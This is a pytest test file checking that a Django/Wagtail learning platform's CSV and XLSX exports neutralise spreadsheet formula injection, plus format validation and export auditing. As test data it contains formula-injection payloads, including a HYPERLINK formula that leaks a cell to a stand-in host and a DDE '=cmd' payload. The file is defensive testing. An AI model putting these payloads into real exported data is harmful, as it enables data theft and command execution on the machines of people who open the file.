"""Every spreadsheet the platform writes is safe to open: a cell that a spreadsheet
would run as a formula is written as text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from dangke.exports import cell_safe, table_bytes
from tests.helpers import assert_neutralised, export_cells

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_starts_become_text(value):
    assert cell_safe(value) == "'" + value


def test_ordinary_values_are_kept():
    assert cell_safe("王强") == "王强"
    assert cell_safe(-3) == -3
    assert cell_safe(1.5) == 1.5
    assert cell_safe(None) is None


def test_xlsx_read_back_holds_no_formula():
    data = table_bytes([["姓名"], *[[value] for value in HOSTILE]], "xlsx")
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type != "f" for cell in cells)
    # (XLSX keeps line breaks as \n)
    expected = ["'" + value.replace("\r", "\n") for value in HOSTILE]
    assert [cell.value for cell in cells] == expected


def test_csv_read_back_starts_no_cell_with_a_formula_character():
    data = table_bytes([["姓名"], *[[value] for value in HOSTILE]], "csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [row[0] for row in rows[1:]] == ["'" + value for value in HOSTILE]


def test_a_report_export_neutralises_member_names(client_for, db):
    from tests import factories

    branch = factories.organisation(name="=cmd|' /C calc'!A0")
    factories.member(organisation=branch, username="=HYPERLINK(1)")
    admin = factories.user("boss", is_superuser=True, is_staff=True)
    client = client_for(admin)
    for fmt in ("csv", "xlsx"):
        answer = client.get(
            f"/api/v3/learning/reports?organisation={branch.code}&format={fmt}"
        )
        assert answer.status_code == 200, answer.content
        if fmt == "csv":
            text = answer.content.decode("utf-8-sig")
            cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        else:
            sheet = load_workbook(io.BytesIO(answer.content)).active
            cells = [c.value for row in sheet.iter_rows() for c in row if c.value]
            assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row), (
                fmt
            )
        texts = [str(cell) for cell in cells]
        assert not any(t.startswith(("=", "+", "@")) for t in texts), texts
        assert "'=HYPERLINK(1)" in texts and "'=cmd|' /C calc'!A0" in texts


def test_real_numbers_stay_numbers_and_a_dash_text_is_neutralised():
    data = table_bytes([["分数", "说明"], [-3, "-3"], [-1.5, "-"], [0, "+86"]], "xlsx")
    sheet = load_workbook(io.BytesIO(data)).active
    rows = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows(min_row=2)]
    assert rows == [
        [(-3, "n"), ("'-3", "s")],
        [(-1.5, "n"), ("'-", "s")],
        [(0, "n"), ("'+86", "s")],
    ]
    text = table_bytes([[-3, "-3"]], "csv").decode("utf-8-sig")
    assert text.strip() == "-3,'-3"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_wagtail_admin_report_exports_neutralise_titles_and_user_names(
    client_for, home_page, fmt
):
    """Wagtail's own reports (aging pages, locked pages, site history) export page
    titles and user names a lecturer or member chose."""
    from tests import factories

    title = '=HYPERLINK("http://example.invalid/?leak="&A1,"点我")'
    person = factories.user("@SUM(A1:A9)", first_name="-1+2", last_name="+王")
    page = factories.lesson(home_page, title=title)
    page.save_revision(user=person, log_action=True).publish(
        user=person, skip_permission_checks=True
    )
    type(page).objects.filter(pk=page.pk).update(locked=True, locked_by=person)
    admin = factories.user("boss", is_superuser=True, is_staff=True)
    client = client_for(admin)
    reports = {
        "aging-pages": "@SUM(A1:A9)",  # last published by (user name)
        "locked": "@SUM(A1:A9)",  # locked by
        "site-history": "-1+2 +王",  # the user's full name
    }
    for report, person_cell in reports.items():
        answer = client.get(f"/admin/reports/{report}/?export={fmt}")
        assert answer.status_code == 200, (report, answer.content[:300])
        cells = export_cells(answer, fmt)
        assert_neutralised(cells, title, person_cell)
        if fmt == "xlsx" and report == "site-history":
            assert page.pk in cells  # the id column stays a number


def test_an_unknown_format_is_a_clear_error():
    from dangke.exports import FILE_FORMATS, UnknownExportFormat, export_format_check

    assert export_format_check("xlsx") == "xlsx"
    assert export_format_check("json") == "json"
    with pytest.raises(UnknownExportFormat) as refused:
        export_format_check("pdf")
    assert refused.value.code == "invalid_format"
    assert refused.value.detail == "format 只能是 json、csv 或 xlsx"
    with pytest.raises(UnknownExportFormat) as refused:
        export_format_check("json", allowed=FILE_FORMATS)
    assert refused.value.detail == "format 只能是 csv 或 xlsx"


@pytest.mark.django_db
def test_an_export_is_audited_and_a_refused_one_is_not(editor):
    from dangke.exports import UnknownExportFormat, export_with_audit
    from dangke.models import AuditEntry

    answer = export_with_audit(
        [["组织代码"], ["=D"]], fmt="csv", filename="report-D", actor=editor,
        channel="api", subject="learning.report", scope={"organisation": "D"},
        row_count=1,
    )  # fmt: skip
    assert answer["Content-Disposition"] == 'attachment; filename="report-D.csv"'
    assert_neutralised(export_cells(answer, "csv"), "=D")
    entry = AuditEntry.objects.get()
    assert (entry.actor, entry.action, entry.subject) == (
        editor,
        "export",
        "learning.report",
    )
    assert entry.scope == {"organisation": "D", "format": "csv"}
    with pytest.raises(UnknownExportFormat):
        export_with_audit(
            [["x"]], fmt="json", filename="x", actor=editor, channel="api",
            subject="learning.report", scope={}, row_count=1,
        )  # fmt: skip
    assert AuditEntry.objects.count() == 1


@pytest.mark.django_db
def test_learning_and_assessment_reports_refuse_a_format_alike(editor, tree, token_for):
    from django.test import Client

    auth = {"HTTP_AUTHORIZATION": f"Bearer {token_for(editor)}"}
    answers = [
        Client().get(url, {"organisation": "D", "format": "pdf", **query}, **auth)
        for url, query in (
            ("/api/v3/learning/reports", {}),
            ("/api/v3/assessment/reports/pass-rates", {"quiz": 1}),
        )
    ]
    assert [a.status_code for a in answers] == [400, 400]
    assert {(a.json()["code"], a.json()["detail"]) for a in answers} == {
        ("invalid_format", "format 只能是 json、csv 或 xlsx")
    }
